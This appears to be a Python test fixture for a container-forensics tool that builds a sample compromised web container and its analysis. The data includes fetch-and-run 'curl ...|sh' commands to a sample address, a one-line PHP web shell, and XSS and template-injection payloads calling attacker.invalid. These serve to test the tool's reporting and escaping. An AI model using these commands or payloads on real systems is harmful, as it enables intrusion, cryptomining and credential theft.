"""Builds one rich case and its analysis by hand: a web container with a miner, a web shell and a reverse shell."""

# ruff: noqa: E501, S104, S105 - a table of samples reads best as wide rows; addresses and secrets are samples
from __future__ import annotations

from pathlib import Path

from forensics.evidence.case import Case
from forensics.evidence.custody import Actor, Authority
from forensics.model import (
    Analysis,
    Change,
    ChangeKind,
    Confidence,
    EntryType,
    EvidenceRef,
    FileEntry,
    Finding,
    Indicator,
    LayerSummary,
    LedgerLine,
    Outcome,
    RecoveredFile,
    Severity,
    Subject,
    TimelineEvent,
    Verdict,
)

HOSTILE = {
    "script": "<script>document.title='pwned';fetch('https://attacker.invalid/')</script>",
    "attribute": "\"><img src=x onerror=\"document.title='pwned'\"><a href='javascript:document.title=1'>",
    "template": "{{ 7*7 }}{% include '/etc/passwd' %}",
    "bidi": "invoice\u202egpj.exe",
    "lines": "one\r\ntwo\u2028three\x00four\x1b[31mred\x07",
    "encoding": "caf\udce9\udcff",
    "closing": "</style></script></title></bdi><base href='//attacker.invalid'><style>*{display:none}</style>",
    "long": "A" * 4096 + "<b>end</b>",
}
SECRET = "hunter2-Sup3rS3cretValue"
CONTAINER_ID = "4f1c9a7be2d0" + "ab" * 26
DIFF_IDS = tuple("sha256:" + f"{n:02x}" * 32 for n in range(4))


def build_case(root: Path) -> Case:
    """Return an open, writable case with evidence of every kind that the report reads."""
    subject = Subject(
        kind="container",
        name="shop-web-1",
        id=CONTAINER_ID,
        image="registry.example/shop/web:2.4.1",
        image_id="sha256:" + "c4" * 32,
        engine="docker 26.1.5",
        started_at="2026-03-14T01:12:07.120000Z",
    )
    actor = Actor(name="Aiko Tanaka", title="Responder", org="Example CSIRT", contact="csirt@example.org", os_uid=0)
    authority = Authority(legal_basis="incident response policy 4.2", ticket="INC-2291")
    case = Case.create(
        root, subject=subject, actor=actor, engine_info={"id": "ENG", "version": "26.1.5"}, authority=authority
    )
    _contain(case)
    for kind, document in EVIDENCE.items():
        case.add_json(kind, document, source=f"engine: {kind} {CONTAINER_ID[:12]}", method="Engine API")
    case.add("logs", [b"listening on :8080\n"], source="engine: logs", method="Engine API /logs, both streams")
    for line in LEDGER:
        case.note(line)
    return case


def _contain(case: Case) -> None:
    for number, effect in enumerate(ACTIONS, start=1):
        action = {"id": f"A{number}", "kind": "x", "effect": effect, "inverse": f"undo: {effect}", "precondition": ""}
        details = {"event": "apply", "container": CONTAINER_ID, "action": action}
        case.record("containment", purpose=effect, result="begin", details=details)
        case.record("containment", details=details)
    case.add_json("containment", PLAN, source="host", method="plan")
    item = case.add_json("containment", PROOF, source="host", method="read from the host after the cut")
    case.record("containment", evidence_ids=(item.id,), details={"event": "proof", "container": CONTAINER_ID})
    case.record("approve", purpose="contain production container, approved by the incident lead")


ACTIONS = ("freeze every process of the container", "disconnect it from network shop_backend (172.19.0.4)")
ETH0 = {"name": "eth0", "is_up": True, "is_loopback": False, "addresses": ["172.19.0.4/16"]}
LOOPBACK = {"name": "lo", "is_up": True, "is_loopback": True, "addresses": ["127.0.0.1/8"]}
PLAN = {
    "schema": "ir.containment-plan/1",
    "actions": [{"kind": "disconnect", "parameters": {"attachment": {"name": "shop_metrics", "ipv4": "172.20.0.9"}}}],
}
PROOF = {
    "schema": "ir.containment-proof/1",
    "proved": True,
    "reasons": [],
    "frozen": True,
    "processes": 5,
    "engine_networks": [],
    "namespaces_before": [{"interfaces": [LOOPBACK, ETH0], "routes_found_to": ["192.0.2.1"]}],
    "namespaces_after": [{"interfaces": [LOOPBACK], "routes_found_to": []}],
    "held_connections": 2,
    "probe": {"answered_before": ["172.19.0.4"], "answered_after": [], "problem": None},
}

PROCESSES = [
    {"pid": 4242, "ns_pid": 1, "ppid": 4200, "comm": "node", "argv": ["node", "server.js"], "exe": "/usr/bin/node", "uid": 0,
     "start_time_utc": "2026-03-14T01:12:07.500000Z", "environ": [f"DB_PASSWORD={SECRET}", "PATH=/usr/bin"]},
    {"pid": 4390, "ns_pid": 31, "ppid": 4242, "comm": "sh", "argv": ["sh", "-c", f"curl -u shop:{SECRET} http://203.0.113.66/x|sh"],
     "exe": "/bin/busybox", "uid": 0, "start_time_utc": "2026-03-14T02:41:09.110000Z"},
    {"pid": 4402, "ns_pid": 37, "ppid": 4390, "comm": "kworker/0:1", "argv": ["[kworker/0:1]"], "exe": "/tmp/.x/xmrig (deleted)",
     "exe_deleted": True, "uid": 0, "start_time_utc": "2026-03-14T02:41:11.400000Z"},
    {"pid": 4417, "ns_pid": 41, "ppid": 4402, "comm": "memfd:a", "argv": [HOSTILE["script"], HOSTILE["bidi"], HOSTILE["lines"]],
     "exe": "/memfd:a (deleted)", "exe_memfd": True, "uid": 33, "start_time_utc": "2026-03-14T02:41:13.000000Z"},
    {"pid": 4300, "ns_pid": 18, "ppid": 4242, "comm": HOSTILE["attribute"], "argv": [], "exe": HOSTILE["encoding"], "uid": 33,
     "start_time_utc": "2026-03-14T01:12:09.000000Z"},
]  # fmt: skip

EVIDENCE = {
    "clock": {"utc": "2026-03-14T03:20:01.000000Z", "offset_ms": 3.2, "source": "chrony"},
    "sockets": {
        "sockets": [
            {"proto": "tcp", "local_addr": "172.19.0.4", "local_port": 51234, "remote_addr": "198.41.0.4", "remote_port": 3333, "state": "ESTABLISHED", "pid": 4402},
            {"proto": "tcp", "local_addr": "0.0.0.0", "local_port": 8080, "remote_addr": "0.0.0.0", "remote_port": 0, "state": "LISTEN", "pid": 4242},
            {"proto": "tcp", "local_addr": "172.19.0.4", "local_port": 40022, "remote_addr": "172.19.0.7", "remote_port": 5432, "state": "ESTABLISHED", "pid": 4242},
        ]
    },
    "processes": {"processes": PROCESSES},
    "inspect": {
        "Id": CONTAINER_ID,
        "Config": {"User": "", "Env": [f"DB_PASSWORD={SECRET}", f"DATABASE_URL=postgres://shop:{SECRET}@db/shop", "NODE_ENV=production"]},
        "HostConfig": {"Privileged": False, "NetworkMode": "shop_backend", "PidMode": "host", "CapAdd": ["NET_ADMIN"], "SecurityOpt": ["seccomp=unconfined"], "RestartPolicy": {"Name": "always"}},
        "Mounts": [
            {"Type": "bind", "Source": "/var/run/docker.sock", "Destination": "/var/run/docker.sock", "RW": True},
            {"Type": "volume", "Name": "shop_uploads", "Source": "/var/lib/docker/volumes/shop_uploads/_data", "Destination": "/app/uploads", "RW": True},
            {"Type": "bind", "Source": HOSTILE["closing"], "Destination": "/x", "RW": False},
        ],
        "NetworkSettings": {"Networks": {"shop_backend": {"IPAddress": "172.19.0.4"}}},
    },
    "network-inspect": {"Name": "shop_backend", "Containers": {CONTAINER_ID: {"Name": "shop-web-1"}, "9f" * 32: {"Name": "shop-db-1"}, "7a" * 32: {"Name": "shop-queue-1"}}},
    "neighbours-containers": {"examined": 14, "containers": [
        {"id": "9f" * 32, "name": "shop-db-1", "shares": [{"kind": "network", "value": "shop_backend"}, {"kind": "volume", "value": "shop_uploads"}]},
        {"id": "11" * 32, "name": HOSTILE["script"], "shares": [{"kind": "image", "value": "sha256:" + "c4" * 32}]},
    ]},
    "engine-version": {"Version": "26.1.5", "KernelVersion": "6.1.0-31-amd64"},
}  # fmt: skip

LEDGER = (
    LedgerLine("connections", Outcome.COLLECTED, size_bytes=2210, seconds=0.012, items=("E0003",)),
    LedgerLine("process table", Outcome.COLLECTED, size_bytes=48211, seconds=0.031, items=("E0004",)),
    LedgerLine("process memory", Outcome.NOT_APPLICABLE, "not asked for (--memory)"),
    LedgerLine("executable of pid 4300", Outcome.FAILED, "the process ended while it was read"),
    LedgerLine("snapshot", Outcome.COLLECTED, size_bytes=412_001_280, seconds=7.9, disturbed="an image was added to the engine and removed again", items=("E0009",)),
    LedgerLine("tmpfs /dev/shm", Outcome.EMPTY, "no file in it", seconds=0.002),
)  # fmt: skip


def entry(path: bytes, *, size: int = 120, layer: int = 3, **more: object) -> FileEntry:
    """Return a file of the top layer."""
    return FileEntry(
        path, EntryType.FILE, 0o755, 0, 0, size, 1_773_456_069_000_000_000, layer, sha256="5e" * 32, **more
    )  # type: ignore[arg-type]


def change(path: bytes, kind: ChangeKind = ChangeKind.ADDED, *fields: str) -> Change:
    """Return a change of the top layer."""
    held = entry(path)
    return Change(kind, path, held if kind is not ChangeKind.ADDED else None, held if kind is not ChangeKind.DELETED else None, fields)  # fmt: skip


def build_analysis() -> Analysis:
    """Return the analysis that belongs to :func:`build_case`."""
    return Analysis(
        verdict=Verdict.COMPROMISED,
        reasons=(
            "A coin miner runs from a deleted file and talks to a mining pool (findings 1 and 2).",
            "A web shell was added to a folder that the web server serves.",
            "The engine's socket is mounted: whoever was root here could own the host.",
        ),
        findings=FINDINGS,
        changes=CHANGES,
        recovered=(RecoveredFile(entry(b"root/.ssh/id_ed25519", size=411, layer=1), 2, DIFF_IDS[1], "COPY . /app # buildkit"),),
        layers=tuple(
            LayerSummary(n, DIFF_IDS[n], "sha256:" + "d0" * 32, 7_000_000 * (4 - n), 400 - n * 90, 400 - n * 95, n * 2, n // 2, text)
            for n, text in enumerate(("ADD rootfs.tar / # debian 12", "COPY . /app # buildkit", f"RUN npm ci --token={SECRET}", "the container's own changes"))
        ),
        timeline=TIMELINE,
        indicators=(
            Indicator("ipv4", "198.41.0.4", (EvidenceRef("E0003"),)),
            Indicator("url", "http://203.0.113.66/x", (EvidenceRef("E0004", pid=4390),)),
            Indicator("domain", "pool.minexmr.example", (EvidenceRef("E0009", path=b"tmp/.x/config.json"),)),
            Indicator("sha256", "5e" * 32, (EvidenceRef("E0009", path=b"tmp/.x/xmrig"),)),
            Indicator("path", HOSTILE["closing"], ()),
        ),
        ledger=(
            LedgerLine("analysis: YARA", Outcome.COLLECTED, "31 rules over 4,211 files", seconds=2.1),
            LedgerLine("analysis: packages", Outcome.FAILED, "the package database of the image is damaged"),
        ),
        warnings=("The host's clock was 3 ms off.",),
    )  # fmt: skip


FINDINGS = (
    Finding("runtime.deleted-executable", "A process runs from a deleted executable", Severity.CRITICAL, Confidence.HIGH, ("T1496.001", "T1070.004"),
            "pid 4402 [kworker/0:1] runs /tmp/.x/xmrig (deleted)", (EvidenceRef("E0004", pid=4402), EvidenceRef("E0009", path=b"tmp/.x/xmrig", layer=DIFF_IDS[3])),
            "Deleting the file of a running program hides it from every scan of the file system.", "A package upgrade replaces programs that still run.",
            "Examine the recovered executable, and look for its digest on other hosts."),
    Finding("network.mining-pool", "A connection to a mining pool's port", Severity.CRITICAL, Confidence.MEDIUM, ("T1496.001", "T1571"),
            "172.19.0.4:51234 → 198.41.0.4:3333 ESTABLISHED", (EvidenceRef("E0003", pid=4402),),
            "Port 3333 is what mining pools use; the peer is on the internet.", "Some development servers use this port.", "Block the address at the border and search the flow logs for it."),
    Finding("files.web-shell", f"A script that runs what a request says: {HOSTILE['script']}", Severity.HIGH, Confidence.HIGH, ("T1505.003", "T1190"),
            "<?php system($_GET['c']); ?> " + HOSTILE["lines"], (EvidenceRef("E0009", path=b"app/uploads/" + HOSTILE["attribute"].encode(), offset=12),),
            "Anyone who can reach the page runs commands as the web server.", "Administration panels do this on purpose.", "Find the upload request in the access log."),
    Finding("config.docker-socket", "The engine's socket is mounted", Severity.HIGH, Confidence.HIGH, ("T1611", "T1552.007"), "/var/run/docker.sock",
            (EvidenceRef("E0005"),), "Root in this container can start a container that owns the host.", "Some build and monitoring tools need it.", "Examine the host for containers that this one started."),
    Finding("files.cron", "A new cron entry", Severity.MEDIUM, Confidence.MEDIUM, ("T1053.003",), "*/5 * * * * curl -s http://203.0.113.66/x|sh",
            (EvidenceRef("E0009", path=b"etc/cron.d/.sync"),), "It brings the intruder back after a restart.", "Packages install cron entries.", "Block the address at the border and search the flow logs for it."),
    Finding("x.unknown", HOSTILE["bidi"] + HOSTILE["template"], Severity.INFO, Confidence.LOW, ("T9999", HOSTILE["closing"]), HOSTILE["long"],
            (EvidenceRef(HOSTILE["attribute"], path=HOSTILE["closing"].encode()),), HOSTILE["closing"], "", ""),
)  # fmt: skip

CHANGES = (
    change(b"tmp/.x/xmrig"),
    change(b"tmp/.x/config.json"),
    change(b"etc/cron.d/.sync"),
    change(b"etc/passwd", ChangeKind.MODIFIED, "content", "mtime"),
    change(b"var/log/auth.log", ChangeKind.DELETED),
    *(
        change(b"app/uploads/" + name.encode("utf-8", "surrogateescape").replace(b"/", b""))
        for name in HOSTILE.values()
    ),
    *(change(b"usr/lib/node_modules/pkg/%03d.js" % n) for n in range(150)),
)

TIMELINE = (
    TimelineEvent("2024-05-01T10:00:00.000000Z", "file", "/bin/busybox modified"),
    TimelineEvent("2025-11-02T08:12:00.000000Z", "image", "layer 0 built"),
    TimelineEvent("2026-03-14T01:12:07.120000Z", "engine", "container started"),
    *(TimelineEvent(f"2026-03-14T02:41:{n:02d}.000000Z", "file", f"/usr/lib/node_modules/pkg/{n:03d}.js created") for n in range(40)),
    TimelineEvent("2026-03-14T02:41:11.400000Z", "process", "kworker/0:1 (4402) started " + HOSTILE["closing"], EvidenceRef("E0004", pid=4402)),
    TimelineEvent("2026-03-14T02:50:00.000000Z", "file", "/tmp/.x/config.json modified", EvidenceRef("E0009"), "before its own folder existed"),
    TimelineEvent("2026-03-14T03:20:00.100000Z", "containment", "network cut"),
    TimelineEvent("2026-03-14T03:20:08.000000Z", "collection", "snapshot taken"),
    TimelineEvent("not a time " + HOSTILE["script"], HOSTILE["attribute"], HOSTILE["lines"]),
)  # fmt: skip
